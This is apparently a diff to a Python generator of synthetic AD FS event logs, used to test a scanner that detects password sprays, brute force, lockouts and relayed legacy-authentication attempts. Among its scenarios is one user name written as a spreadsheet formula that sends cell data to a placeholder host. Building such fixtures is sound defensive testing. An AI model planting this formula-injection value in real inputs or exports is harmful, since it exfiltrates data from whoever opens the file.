@@ -11,7 +11,8 @@ time, user as typed, submitter IP and outcome, in time order, plus the event cou
 Scenarios (the event layouts are those src/scan/facts.c describes and reads):
   contoso, AD FS 2016+ (ADFS01, ADFS02), English, verbose audits 403/410/411/412/501/1203 + 4625:
     a password spray from one public IP over 12 users in 84 s (one unknown user), a brute force that ends in extranet
-    lockout (516 + 1210, no 4625 any more), an AD lockout (4625 0xC0000234), a stale service credential typed as
+    lockout (516 + 1210, no 4625 any more) and later an AD lockout of the same account, an AD lockout (4625
+    0xC0000234), a legacy-authentication spray of ten users relayed by Exchange Online, a stale service credential typed as
     DOMAIN\\user from a private IP every 10 minutes, legacy auth proxied by Exchange Online (zero activity ID,
     attacker IPv6 in x-ms-forwarded-client-ip), hyphenated user names, a user name typed as a spreadsheet formula,
     one success (412) that is not an attempt.
@@ -207,7 +208,7 @@ def xml_text(s):
     return re.sub('[\x00-\x08\x0b\x0c\x0e-\x1f]', lambda m: '&#x%X;' % ord(m.group(0)), escape(s))
 
 
-def audit_xml(kind, user, ip, forwarded='', lockout=None):
+def audit_xml(kind, user, ip, forwarded='', lockout=None, endpoint='/adfs/ls/'):
     """Data[1] of 1203/1210: the AuditBase document, as AD FS writes it."""
     failure = 'ExtranetLockoutError' if lockout else 'CredentialValidationError'
     code = 'AccountRestrictedAudit' if lockout else 'N/A'
@@ -226,9 +227,9 @@ def audit_xml(kind, user, ip, forwarded='', lockout=None):
             '</Server><AuthProtocol>WSFederation</AuthProtocol><NetworkLocation>Extranet</NetworkLocation>'
             '<IpAddress>%s</IpAddress><ForwardedIpAddress>%s</ForwardedIpAddress><ProxyIpAddress>N/A'
             '</ProxyIpAddress><NetworkIpAddress>N/A</NetworkIpAddress><ProxyServer>WAP01</ProxyServer>'
-            '<UserAgentString>Mozilla/5.0</UserAgentString><Endpoint>/adfs/ls/</Endpoint></Component>%s'
+            '<UserAgentString>Mozilla/5.0</UserAgentString><Endpoint>%s</Endpoint></Component>%s'
             '</ContextComponents></AuditBase>' % (kind, failure, code, xml_text(user), xml_text(ip),
-                                                  xml_text(forwarded), lock))
+                                                  xml_text(forwarded), endpoint, lock))
 
 
 def claims_501(instance, pairs):
@@ -245,9 +246,10 @@ class Farm:
     def log(self, server, locale='en'):
         return self.logs.setdefault(server, Log(server, locale))
 
-    def expect(self, log, t, user, ip, outcome, claimed=''):
+    def expect(self, log, t, user, ip, outcome, claimed='', relayed=False):
+        """relayed: legacy authentication that Exchange Online relayed (zero activity ID)."""
         self.expected.append({'server': log.server, 'time': iso(t), 'user': user, 'ip': ip, 'outcome': outcome,
-                              'client_supplied': claimed})
+                              'client_supplied': claimed, 'relayed': relayed})
 
     def attempt_2016(self, log, t, user, ip, outcome='bad_password', status=0xC000006D, sub=0xC000006A,
                      exo=False, forwarded=None, with_4625=True, message=True, claimed=None):
@@ -260,7 +262,8 @@ class Farm:
         submitter = forwarded or ip
         if claimed:
             ip_list = f'{claimed},{ip_list}'
-        log.adfs(t, 403, [instance, activity, t.strftime('%Y-%m-%d %H:%M:%S'), ip, 'POST', '/adfs/ls/', '',
+        path = '/adfs/services/trust/2005/usernamemixed' if exo else '/adfs/ls/'
+        log.adfs(t, 403, [instance, activity, t.strftime('%Y-%m-%d %H:%M:%S'), ip, 'POST', path, '',
                           '443', '10.0.0.5', 'Mozilla/5.0', '1234'])
         if with_4625:
             domain, target = ('', user) if '\\' not in user else user.split('\\', 1)
@@ -268,8 +271,9 @@ class Farm:
                 'S-1-5-21-1004336348-1177238915-682003330-1105', 'adfssvc$', 'CONTOSO', 0x3e7, 'S-1-0-0', target,
                 domain, status, '%%2313' if status != 0xC0000234 else '%%2307', sub, 3, 'W', 'Negotiate',
                 log.server, '-', '-', 0, 0xd34, SERVICE_HOST, '-', '-'])
-        text = MESSAGES[log.locale]['locked' if outcome == 'locked_out' else 'bad']
-        log.adfs(t + 2 * ms, 1203, [activity, audit_xml('FreshCredentialAudit', user, ip_list, forwarded or '')])
+        text = MESSAGES[log.locale]['locked' if outcome == 'ad_locked_out' else 'bad']
+        log.adfs(t + 2 * ms, 1203, [activity, audit_xml('FreshCredentialAudit', user, ip_list, forwarded or '',
+                                                        endpoint=path)])
         log.adfs(t + 3 * ms, 411, [activity, USERNAME_TOKEN, f'{user}-{text}' if message else user,
                                    f'System.IdentityModel.Tokens.SecurityTokenValidationException: {user} ---> '
                                    f'System.ComponentModel.Win32Exception: {text}', ip_list])
@@ -281,7 +285,7 @@ class Farm:
                       (RC + 'x-ms-client-application', 'Microsoft.Exchange.ActiveSync'),
                       (RC + 'x-ms-endpoint-absolute-path', '/adfs/services/trust/2005/usernamemixed')]
         log.adfs(t + 4 * ms, 501, claims_501(instance, claims))
-        self.expect(log, t, user, submitter, outcome, claimed or '')
+        self.expect(log, t, user, submitter, outcome, claimed or '', exo)
 
     def success_2016(self, log, t, user, ip):
         activity = str(uuid.uuid5(uuid.NAMESPACE_DNS, f'ok{log.server}{t}{user}'))
@@ -304,19 +308,19 @@ class Farm:
         ms = datetime.timedelta(milliseconds=1)
         log.adfs(t, 516, [activity, user, ip, str(count), '11/20/2026 08:00:00'])
         log.adfs(t + ms, 1210, [activity, audit_xml('ExtranetLockoutAudit', user, ip, lockout=count)])
-        self.expect(log, t, user, ip, 'locked_out')
+        self.expect(log, t, user, ip, 'extranet_locked_out')
 
     def attempt_2012r2(self, log, t, user, ip, outcome='bad_password', ip_field=True, with_4625=True):
         activity = str(uuid.uuid5(uuid.NAMESPACE_DNS, f'{log.server}{t}{user}'))
         instance = str(uuid.uuid5(uuid.NAMESPACE_URL, f'{log.server}{t}{user}'))
         ms = datetime.timedelta(milliseconds=1)
         if with_4625:
-            status = 0xC0000234 if outcome == 'locked_out' else 0xC000006D
+            status = 0xC0000234 if outcome == 'ad_locked_out' else 0xC000006D
             log.security(t, 4625, F4625, [
                 'S-1-5-21-1004336348-1177238915-682003330-1105', 'adfssvc', 'FABRIKAM', 0x3e7, 'S-1-0-0', user, '',
                 status, '%%2313', 0xC000006A, 3, 'W', 'Negotiate', log.server, '-', '-', 0, 0x8d4, SERVICE_HOST,
                 '-', '-'])
-        text = MESSAGES[log.locale]['locked' if outcome == 'locked_out' else 'bad']
+        text = MESSAGES[log.locale]['locked' if outcome == 'ad_locked_out' else 'bad']
         data = [activity, USERNAME_TOKEN, f'{user}-{text}',
                 f'System.IdentityModel.Tokens.SecurityTokenValidationException: {user} ---> '
                 f'System.ComponentModel.Win32Exception: {text}']
@@ -349,7 +353,7 @@ def build(out):
         farm.extranet_lockout(a1, t + (120 + 30 * i) * datetime.timedelta(seconds=1), 'bob.o-neil@contoso-corp.com',
                               '198.51.100.7', 5 + i)
     # AD account lockout reported by the DC through 4625 0xC0000234
-    farm.attempt_2016(a2, BASE + 50 * minute, 'jean-luc@contoso.com', '198.51.100.9', 'locked_out',
+    farm.attempt_2016(a2, BASE + 50 * minute, 'jean-luc@contoso.com', '198.51.100.9', 'ad_locked_out',
                       status=0xC0000234, sub=0)
     # a service with an old password: DOMAIN\user from a private IP every 10 minutes
     for i in range(6):
@@ -358,6 +362,13 @@ def build(out):
     for i in range(3):
         farm.attempt_2016(a1, BASE + 130 * minute + i * minute, 'carol@contoso.com', '40.92.0.10', exo=True,
                           forwarded='2001:db8::1234')
+    # a legacy-authentication spray through Exchange Online: ten users from one client, relayed by EXO
+    for i, user in enumerate(['ann', 'ben', 'cal', 'dee', 'eve', 'fay', 'gus', 'hal', 'ida', 'jon']):
+        farm.attempt_2016(a2, BASE + 150 * minute + i * 20 * datetime.timedelta(seconds=1), f'{user}@contoso.com',
+                          '40.92.0.11', exo=True, forwarded='2001:db8::66')
+    # bob, locked on the extranet by the brute force, is later locked in AD too (a DC answers 0xC0000234)
+    farm.attempt_2016(a2, BASE + 45 * minute, 'bob.o-neil@contoso-corp.com', '198.51.100.7', 'ad_locked_out',
+                      status=0xC0000234, sub=0)
     # a user name typed to be run as a spreadsheet formula
     farm.attempt_2016(a2, BASE + 135 * minute, '=HYPERLINK("http://x.example/?"&A1)@contoso.com', '203.0.113.66')
     # after the spray, the sprayer gets in as alice (412 + 1202 + 501 with her UPN): not an attempt, but the summary
@@ -367,7 +378,7 @@ def build(out):
     old = farm.log('ADFS-OLD.fabrikam.fr', 'fr')
     farm.attempt_2012r2(old, BASE + 10 * minute, 'marie@fabrikam.fr', '192.0.2.44')
     farm.attempt_2012r2(old, BASE + 11 * minute, 'marie@fabrikam.fr', '192.0.2.44', ip_field=False)
-    farm.attempt_2012r2(old, BASE + 12 * minute, 'paul@fabrikam.fr', '192.0.2.45', 'locked_out', with_4625=False)
+    farm.attempt_2012r2(old, BASE + 12 * minute, 'paul@fabrikam.fr', '192.0.2.45', 'ad_locked_out', with_4625=False)
 
     jp = farm.log('ADFS-JP.contoso.co.jp', 'ja')
     farm.attempt_2016(jp, BASE + 20 * minute, 'taro@contoso.co.jp', '203.0.113.77')
@@ -378,7 +389,7 @@ def build(out):
         lf = farm.log(f'LOCALE-{locale}.contoso.com', locale)
         t0 = BASE + datetime.timedelta(hours=3)
         farm.attempt_2016(lf, t0, 'anna@contoso.com', '203.0.113.120')
-        farm.attempt_2012r2(lf, t0 + minute, 'ben@contoso.com', '203.0.113.121', 'locked_out', with_4625=False)
+        farm.attempt_2012r2(lf, t0 + minute, 'ben@contoso.com', '203.0.113.121', 'ad_locked_out', with_4625=False)
         farm.attempt_2012r2(lf, t0 + 2 * minute, 'cara@contoso.com', '203.0.113.122', with_4625=False)
         farm.attempt_2012r2(lf, t0 + 3 * minute, 'dan-el@contoso.com', '203.0.113.123', ip_field=False)
 
